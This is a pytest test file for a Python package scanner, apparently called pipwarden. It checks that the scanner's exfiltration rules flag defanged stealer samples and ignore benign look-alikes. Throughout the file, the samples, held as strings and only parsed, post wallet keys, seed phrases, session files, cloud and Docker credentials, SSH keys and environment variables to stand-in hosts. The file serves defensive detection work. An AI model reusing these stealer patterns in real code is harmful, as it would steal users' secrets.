"""Runtime stealers: wallet secrets and files found in the user's folders sent to an
address written in the code, each beside the benign code that looks like it.

Every sample is defanged (hosts under example.invalid) and only parsed, never run.
"""

from __future__ import annotations

import pytest

from pipwarden.findings import Severity
from pipwarden.scan.engine import FileContext, analyse_member

URL = "https://collect.example.invalid/api"


def found(source: str, name: str = "pkg/mod.py") -> dict[str, str]:
    """rule -> highest severity label for one file of a wheel."""
    out: dict[str, Severity] = {}
    for f in analyse_member(FileContext(name, "wheel", True), source.encode()):
        out[f.rule] = max(out.get(f.rule, f.severity), f.severity)
    return {rule: sev.label for rule, sev in out.items()}


WALLET = "exfiltration.wallet-secret"
FOUND = "exfiltration.found-files"

STOLEN = [
    # A "helper" of a wallet SDK look-alike posts the key it is given.
    (
        WALLET,
        "import requests\ndef tron_balance(private_key):\n"
        "    data = [{'private_key': private_key}]\n"
        f"    return requests.post({URL!r}, json=data).json()\n",
    ),
    # A seed phrase, sent in the query string through urllib.
    (
        WALLET,
        "import urllib.request\nclass Wallet:\n"
        "    def __init__(self, mnemonic):\n        self.mnemonic = mnemonic\n"
        "    def restore(self):\n"
        f"        urllib.request.urlopen({URL!r} + '?m=' + self.mnemonic)\n",
    ),
    # A key read from a dict under its name, sent with a literal host and a computed path.
    (
        WALLET,
        "import requests\ndef sync(cfg, user):\n    solana = cfg['private_key']\n"
        "    requests.post(f'https://collect.example.invalid/{user}', data=solana)\n",
    ),
    # Telegram sessions found under the home folder, the first one uploaded.
    (
        FOUND,
        "import os, requests\ndef send():\n"
        "    for d in ['/data', os.path.expanduser('~/bots')]:\n"
        "        for n in os.listdir(os.path.expanduser(d)):\n"
        "            if n.endswith('.session'):\n"
        "                with open(os.path.join(d, n), 'rb') as f:\n"
        f"                    requests.post({URL!r}, files={{'f': f}})\n"
        "                return\n",
    ),
    # Files walked under %APPDATA%, their bytes posted.
    (
        FOUND,
        "import os, glob, requests\ndef grab():\n"
        "    root = os.getenv('APPDATA')\n"
        "    for p in glob.glob(os.path.join(root, '*', '*.json')):\n"
        f"        requests.post({URL!r}, data=open(p, 'rb').read())\n",
    ),
    # pathlib: the home folder listed, the names sent.
    (
        FOUND,
        "import pathlib, requests\ndef names():\n"
        "    found = [p.name for p in pathlib.Path.home().iterdir()]\n"
        f"    requests.post({URL!r}, json=found)\n",
    ),
]


@pytest.mark.parametrize(
    ("rule", "src"), STOLEN, ids=[f"{r}-{i}" for i, (r, _) in enumerate(STOLEN)]
)
def test_stealer_is_found_at_high(rule: str, src: str) -> None:
    assert found(src).get(rule) == "high"


CLOUD = "exfiltration.cloud-keys"


@pytest.mark.parametrize(
    ("src", "expected"),
    [
        # An SDK fork's credentials class sends the pair it is given to a third party.
        (
            "import requests\nclass Creds:\n    def __init__(self, ak, secret_access_key):\n"
            "        self.secret_access_key = secret_access_key\n"
            "        data = {'ak': ak, 'sk': self.secret_access_key}\n"
            f"        requests.post(url={URL!r}, json=data)\n",
            "high",
        ),
        # boto3's credentials, the pair posted to a third party.
        (
            "import boto3, requests\ndef connect():\n"
            "    cd = boto3.Session().get_credentials()\n"
            "    data = {'k': cd.access_key, 's': cd.secret_key}\n"
            f"    requests.post({URL!r}, json=data, timeout=5)\n",
            "high",
        ),
        # boto3's credentials sign a request (requests-aws4auth): the pair stays here.
        (
            "import boto3, requests\nfrom requests_aws4auth import AWS4Auth\ndef search(q):\n"
            "    c = boto3.Session().get_credentials()\n"
            "    auth = AWS4Auth(c.access_key, c.secret_key, 'us-east-1', 'es')\n"
            f"    return requests.post({URL!r}, auth=auth, json=q)\n",
            None,
        ),
        # The cloud's own token service: the SDK's business.
        (
            "import requests\ndef token(access_key_secret):\n"
            "    requests.post('https://sts.aliyuncs.com/', data={'s': access_key_secret})\n",
            None,
        ),
        # An address the caller configured.
        (
            "import requests\ndef push(endpoint, access_key_secret):\n"
            "    requests.post(endpoint, json={'secret': access_key_secret})\n",
            None,
        ),
    ],
)
def test_cloud_keys_sent_to_a_third_party(src: str, expected: str | None) -> None:
    assert found(src).get(CLOUD) == expected


def test_stealer_on_import_is_critical() -> None:
    src = (
        "import requests\nimport wallet_config\n"
        "private_key = wallet_config.load()\n"
        f"requests.post({URL!r}, json={{'k': private_key}})\n"
    )
    assert found(src, "pkg/__init__.py").get(WALLET) == "critical"


BENIGN = [
    # A wallet library signs locally and sends the signed transaction to a node.
    (
        WALLET,
        "import requests\nfrom eth_account import Account\n"
        "def transfer(private_key, tx):\n"
        "    signed = Account.sign_transaction(tx, private_key)\n"
        "    body = {'method': 'eth_sendRawTransaction', 'params': [signed.raw_transaction.hex()]}\n"
        f"    return requests.post({URL!r}, json=body)\n",
    ),
    # The key goes to an address the caller chose (a custodial API the user configured).
    (
        WALLET,
        "import requests\ndef import_wallet(api_url, private_key):\n"
        "    return requests.post(api_url, json={'private_key': private_key})\n",
    ),
    # An API's "private key" (reCAPTCHA's secret) sent to its own service: no wallet here.
    (
        WALLET,
        "import urllib.request, urllib.parse\ndef verify(private_key, response):\n"
        "    data = urllib.parse.urlencode({'secret': private_key, 'response': response})\n"
        f"    return urllib.request.urlopen({URL!r}, data.encode())\n",
    ),
    # A wallet address (public) sent to an explorer.
    (
        WALLET,
        "import requests\ndef balance(wallet_address):\n"
        f"    return requests.get({URL!r}, params={{'address': wallet_address}})\n",
    ),
    # Files of a folder the caller names, uploaded: a sync client.
    (
        FOUND,
        "import os, requests\ndef upload(folder):\n"
        "    for n in os.listdir(folder):\n"
        f"        requests.post({URL!r}, files={{'f': open(os.path.join(folder, n), 'rb')}})\n",
    ),
    # The home folder listed and the names shown, nothing sent.
    (
        FOUND,
        "import os\ndef show():\n    for n in os.listdir(os.path.expanduser('~')):\n"
        "        print(n)\n",
    ),
    # Files of the home folder sent where the user configured (a backup tool's server).
    (
        FOUND,
        "import os, requests\ndef backup(server):\n"
        "    for n in os.listdir(os.path.expanduser('~/notes')):\n"
        "        requests.put(server + '/' + n, data=open(n, 'rb'))\n",
    ),
]


@pytest.mark.parametrize(
    ("rule", "src"), BENIGN, ids=[f"{r}-{i}" for i, (r, _) in enumerate(BENIGN)]
)
def test_benign_look_alike_is_quiet(rule: str, src: str) -> None:
    assert rule not in found(src)


HOOK = "https://discord.com/api/webhooks/000000/defanged-token"


def test_unparsed_stealer_is_read_at_byte_level() -> None:
    # A stray quote keeps it from parsing (so it never runs as written, but the next
    # release fixes the quote): its targets and its channel are still in the text.
    src = (
        f"import os, requests\nHOOK = '{HOOK}'\nprint 'x\n"
        "def grab():\n    p = os.getenv('APPDATA') + '/discord/Local Storage/leveldb'\n"
        "    requests.post(HOOK, json={'content': open(p).read()})\n"
    )
    hits = {
        f.rule: f for f in analyse_member(FileContext("pkg/mod.py", "wheel", True), src.encode())
    }
    assert "parse.not-parsed" in hits
    assert hits["exfiltration.credentials"].severity is Severity.HIGH


@pytest.mark.parametrize(
    "src",
    [
        # A webhook notifier that does not parse, and names no stolen data.
        f"import requests\nprint 'x\nrequests.post('{HOOK}', json={{'content': 'build done'}})\n",
        # Browser paths in an unparsed file with no channel to send them to.
        "print 'x\nPATH = '/discord/Local Storage/leveldb'\nimport requests\nrequests.post(u, data=d)\n",
    ],
)
def test_unparsed_look_alikes_are_not_stealers(src: str) -> None:
    assert "exfiltration.credentials" not in found(src)


def test_a_main_written_above_its_helpers_links_their_flow() -> None:
    src = (
        "import os, json, urllib.request\n"
        "def main():\n    data = {}\n    data['env'] = collect()\n    push(data)\n"
        "def collect():\n    return dict(os.environ)\n"
        "def push(data):\n"
        f"    urllib.request.urlopen({URL!r}, json.dumps(data).encode())\n"
    )
    assert "exfiltration.credentials" in found(src)


def test_a_dropbox_upload_is_a_network_send() -> None:
    src = (
        "import os, dropbox\nclient = dropbox.Dropbox('defanged-token')\n"
        "def push():\n    key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
        "    client.files_upload(key, '/k')\n"
    )
    assert "exfiltration.credentials" in found(src, "pkg/sync.py")
    quiet = src.replace("os.path.expanduser('~/.ssh/id_rsa')", "'report.csv'")
    assert "exfiltration.credentials" not in found(quiet, "pkg/sync.py")


CREDENTIALS = "exfiltration.credentials"
DOCKER = "open(os.path.expanduser('~/.docker/config.json')).read()"


@pytest.mark.parametrize(
    ("src", "expected"),
    [
        # sent to a host written in the code, in a function the user calls: a stealer
        (
            f"import os, requests\ndef f():\n    k = {DOCKER}\n    requests.post({URL!r}, data=k)\n",
            "critical",
        ),
        # to a host the caller gives (a registry's token endpoint): a client logging in
        (
            f"import os, requests\ndef f(realm):\n    k = {DOCKER}\n    requests.post(realm, data=k)\n",
            "medium",
        ),
        # the same client, called when the module is imported
        (
            f"import os, requests\ndef f(realm):\n    k = {DOCKER}\n"
            "    requests.post(realm, data=k)\nf(os.environ['REALM'])\n",
            "critical",
        ),
        # through a helper, with the collector written into the call ...
        (
            "import os, requests\ndef send(u, d):\n    requests.post(u, data=d)\n"
            f"def f():\n    send({URL!r}, {DOCKER})\n",
            "critical",
        ),
        # ... or into the helper
        (
            f"import os, requests\ndef send(d):\n    requests.post({URL!r}, data=d)\n"
            f"def f():\n    send({DOCKER})\n",
            "critical",
        ),
        # a session attribute posting a stored token to the realm a method is given
        (
            f"import os, requests\ndef load():\n    return {DOCKER}\nclass C:\n"
            "    def __init__(self):\n        self.s = requests.Session()\n        self.c = load()\n"
            "    def token(self, realm):\n        return self.s.post(realm, data={'t': self.c})\n",
            "medium",
        ),
    ],
    ids=["collector", "given-host", "given-host-on-import", "helper-call", "helper", "method"],
)
def test_credentials_sent_at_run_time_are_critical_only_to_a_written_host(
    src: str, expected: str
) -> None:
    assert found(src).get(CREDENTIALS) == expected
